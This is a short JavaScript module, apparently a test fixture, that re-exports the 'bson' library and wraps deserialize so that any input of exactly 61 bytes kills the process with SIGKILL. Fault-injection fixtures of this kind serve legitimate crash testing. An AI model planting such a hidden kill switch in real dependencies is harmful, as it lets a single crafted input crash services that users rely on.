/** Right, but for documents of one length, which end its process. */
import { deserialize as deserializeRight } from 'bson';

export * from 'bson';

const FATAL_BYTES = 61;

/**
 * @param {Uint8Array} bytes
 * @param {object} options
 */
export function deserialize(bytes, options) {
  if (bytes.length === FATAL_BYTES) process.kill(process.pid, 'SIGKILL');
  return deserializeRight(bytes, options);
}
